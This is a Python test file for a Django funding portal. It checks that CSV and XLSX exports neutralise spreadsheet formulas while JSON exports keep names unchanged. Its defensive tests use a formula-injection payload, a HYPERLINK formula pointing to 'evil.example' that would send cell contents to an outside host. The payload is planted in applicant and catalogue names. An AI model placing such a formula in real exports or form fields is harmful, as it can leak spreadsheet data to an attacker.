"""Every CSV and XLSX the portal writes goes through lib/spreadsheets.py, which
neutralises formulas; JSON is never touched (it is not a spreadsheet)."""

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from tests.audits.conftest import fill_draft
from tests.factories import MembershipFactory
from trinno_portal.funding.models import Call, Ranking
from trinno_portal.lib.spreadsheets import FORMULA_PREFIXES

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/"&A1,"x")'
# What writes a spreadsheet without the helper.
WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\.to_csv\(|\.to_excel\(|ExcelWriter|Workbook\(")


def _sources():
    for folder in ("trinno_portal", "audits", "catalogue", "vouchers", "monitoring"):
        for path in (ROOT / folder).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_no_module_writes_a_spreadsheet_but_the_helper():
    helper = ROOT / "trinno_portal" / "lib" / "spreadsheets.py"
    offenders = [
        str(path.relative_to(ROOT))
        for path in _sources()
        if path != helper and path not in FORMATTED and WRITERS.search(path.read_text())
    ]
    assert offenders == [], f"write CSV/XLSX through trinno_portal.lib.spreadsheets: {offenders}"


# The Managing Authority's workbook needs widths, number formats, frozen headers and
# filters that the helper does not write: it builds its own openpyxl book, and every cell
# goes through the helper's neutralise (report_xlsx._cell_value, tested below).
FORMATTED = {ROOT / "monitoring" / "report_xlsx.py"}


def _no_formula(cells):
    cells = [c for c in cells if isinstance(c, str)]
    assert cells, "nothing was read"
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells


def test_the_ranking_csv_neutralises_applicant_names(client, staff_user, audit_call, submit):
    from audits.call import services

    member = MembershipFactory(enterprise__legal_name=EVIL)
    application = services.audit_application_start(
        call=audit_call, enterprise=member.enterprise, user=member.user
    )
    submit(fill_draft(application), member.user)
    Call.objects.filter(pk=audit_call.pk).update(committed=Decimal("0"))
    client.force_login(staff_user)
    month = f"{timezone.localdate():%Y-%m}"
    client.post(reverse("admin:funding_ranking_build"), {"call": audit_call.pk, "month": month})
    ranking = Ranking.objects.get()
    response = client.get(reverse("admin:funding_ranking_csv", args=[ranking.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert "'" + EVIL in rows[1]
    _no_formula([cell for row in rows for cell in row])


def _operation(name: str) -> dict:
    from monitoring.reports import OPEN_DATA_FIELDS

    row = {field: "" for field in OPEN_DATA_FIELDS}
    row.update(
        id=1,
        beneficiary=name,
        beneficiary_type="enterprise",
        decided_on=dt.date(2025, 3, 1),
        OC_FINANZ_TOT_PUB_NETTO=Decimal("-1000.50"),
    )
    return row


@pytest.mark.parametrize("name", ["=1+1", "+39 Officina", "-Officina", "@Officina"])
def test_the_open_data_json_keeps_names_as_they_are(name):
    from monitoring.reports import open_data_json

    body = b"".join(
        open_data_json([_operation(name)], start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31))
    )
    operation = json.loads(body)["operations"][0]
    assert operation["beneficiary"] == name
    assert operation["OC_FINANZ_TOT_PUB_NETTO"] == "-1000.50"


def test_the_open_data_csv_neutralises_names_but_not_amounts():
    from monitoring.reports import open_data_csv

    text = b"".join(open_data_csv([_operation(EVIL)])).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["beneficiary"] == "'" + EVIL
    assert row["OC_FINANZ_TOT_PUB_NETTO"] == "-1000.50"  # a number, not text to neutralise


def test_the_report_workbook_neutralises_every_cell():
    from monitoring.report_xlsx import _cell_value

    assert _cell_value(EVIL) == "'" + EVIL
    assert _cell_value("Officina Rossi") == "Officina Rossi"
    assert _cell_value(Decimal("2")) == 2  # numbers stay numbers
    assert _cell_value(Decimal("-1000.50")) == -1000.5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_export_neutralises_and_reads_back(fmt):
    from catalogue.editions import importing

    record = {column: "" for column in importing.COLUMNS}
    record.update(code="A.1", name=EVIL)
    content = (importing.export_csv if fmt == "csv" else importing.export_xlsx)([record])
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + EVIL in cells
    _no_formula(cells)
